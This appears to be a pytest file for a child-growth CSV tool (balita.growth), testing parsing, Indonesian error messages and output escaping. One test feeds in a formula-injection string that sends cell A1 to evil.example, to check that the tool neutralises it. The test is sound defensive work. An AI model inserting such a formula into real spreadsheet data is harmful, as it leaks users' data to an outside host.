"""`python -m balita.growth IN OUT`: no Django, no pandas, real files in the shapes analysts have."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from balita.growth import table

ROOT = Path(__file__).resolve().parents[2]
HEADER = ["Nama", "JK", "Tgl Lahir", "Tanggal Pengukuran", "Berat", "Tinggi", "Cara Ukur"]
GOOD = ["Budi", "L", "2022-01-18", "2024-01-18", "10,85", "77,7", "Terlentang"]  # -3.31 TB/U


def run_module(*args):
    env = {k: v for k, v in os.environ.items() if k not in ("DJANGO_SETTINGS_MODULE", "DATABASE_URL")}
    return subprocess.run([sys.executable, "-m", "balita.growth", *map(str, args)], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_runs_without_django_or_pandas(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(",".join(HEADER) + "\n" + ",".join(f'"{c}"' for c in GOOD) + "\n", encoding="utf-8")
    code = ("import sys, runpy; sys.argv = ['balita.growth', sys.argv[1], sys.argv[2]]\n"
            "try:\n    runpy.run_module('balita.growth', run_name='__main__')\nexcept SystemExit as e:\n    assert e.code == 0\n"
            "print(sorted({m.split('.')[0] for m in sys.modules} & {'django', 'pandas', 'matplotlib', 'plotly'}))")
    result = subprocess.run([sys.executable, "-c", code, str(source), str(tmp_path / "out.csv")], cwd=ROOT,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "[]"
    out = read_csv(tmp_path / "out.csv")
    assert out[0] == HEADER + table.ADDED and out[1][:7] == GOOD and out[1][8] == "-3.31"


def test_semicolons_title_block_blank_lines_and_windows_encoding(tmp_path):
    # A title block with an empty line and a line break inside quotes: rows are counted as records.
    lines = ["Data Pengukuran Balita;;;;;;", "", '"Kota Kediri\r\nFebruari 2024";;;;;;', ";".join(HEADER),
             ";".join(["Zoë"] + GOOD[1:]), "", ";".join(["Siti", "P", "31/02/2022", "2024-01-18", "9", "80", "berdiri"]),
             ";".join(["Ani", "X", "2022-01-18", "45310", "9 kg", "sembilan", ""]), ""]
    source = tmp_path / "in.csv"
    source.write_bytes("\r\n".join(lines).encode("cp1252"))
    result = run_module(source, tmp_path / "out.csv")
    assert result.returncode == 1
    # Spreadsheet rows: the title block is rows 1-3, the header row 4, the blank line row 6.
    assert result.stderr.splitlines() == [
        "Baris 7, kolom Tgl Lahir: tanggal tidak terbaca (gunakan 2024-05-24, 24/05/2024 atau tanggal Excel) ('31/02/2022').",
        "Baris 8, kolom Tinggi: bukan angka ('sembilan').",
        "Baris 8, kolom JK: jenis kelamin harus L atau P ('X').",
        "3 kesalahan pada berkas masukan; tidak ada keluaran ditulis.",
    ]
    assert not (tmp_path / "out.csv").exists()

    lines[6] = lines[6].replace("31/02/2022", "28/02/2022")
    lines[7] = ";".join(["Ani", "P", "2022-01-18", "45309", "9 kg", "80", ""])  # 45309 = 2024-01-18
    source.write_bytes("\r\n".join(lines).encode("cp1252"))
    result = run_module(source, tmp_path / "out.csv")
    assert result.returncode == 0, result.stderr
    out = read_csv(tmp_path / "out.csv")
    assert [row[0] for row in out] == ["Nama", "Zoë", "Siti", "Ani"]  # blank lines are not rows
    assert out[1][HEADER.index("Berat")] == "10,85"  # input cells as they were
    added = dict(zip(out[0], out[3]))
    assert added["Umur (hari)"] == "730" and added["ZS TB/U"] and added["TB/U"]


def test_rows_of_another_width_give_the_same_result(tmp_path):
    good = [cell.replace(",", ".") for cell in GOOD]
    regular = tmp_path / "regular.csv"
    ragged = tmp_path / "ragged.csv"
    regular.write_text("\n".join([",".join(HEADER), ",".join(good), ",".join(good[:6] + [""])]) + "\n", encoding="utf-8")
    ragged.write_text("\n".join([",".join(HEADER), ",".join(good + ["catatan"]), ",".join(good[:6])]) + "\n",
                      encoding="utf-8")
    assert run_module(regular, tmp_path / "a.csv").returncode == 0
    assert run_module(ragged, tmp_path / "b.csv").returncode == 0
    a, b = read_csv(tmp_path / "a.csv"), read_csv(tmp_path / "b.csv")
    assert a == b and len(a) == 3


@pytest.mark.parametrize("name, message", [
    ("in.txt", "Format berkas .txt tidak didukung"),
    ("missing.csv", "tidak ditemukan"),
])
def test_unusable_files_are_named(tmp_path, name, message):
    if name == "in.txt":
        (tmp_path / name).write_text("x")
    result = run_module(tmp_path / name, tmp_path / "out.csv")
    assert result.returncode == 1 and message in result.stderr


def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """The analysts' tool writes CSV by tpps.csvfile's rule too: a name typed as a formula arrives
    as text, a negative number stays a number."""
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER + ["Catatan", "@SUM(A1)"])
        writer.writerow(GOOD + ["-2.5", "+62 812"])
        writer.writerow([evil] + GOOD[1:] + ["-x", ""])
    result = run_module(source, tmp_path / "out.csv")
    assert result.returncode == 0, result.stderr
    out = read_csv(tmp_path / "out.csv")
    assert out[0][len(HEADER) + 1] == "'@SUM(A1)"
    assert out[1][0] == "Budi" and out[1][len(HEADER)] == "-2.5" and out[1][len(HEADER) + 1] == "'+62 812"
    assert out[2][0] == "'" + evil and out[2][len(HEADER)] == "'-x"
    assert out[2][len(HEADER) + 3] == "-3.31"  # the z-score: a number, unquoted by the rule
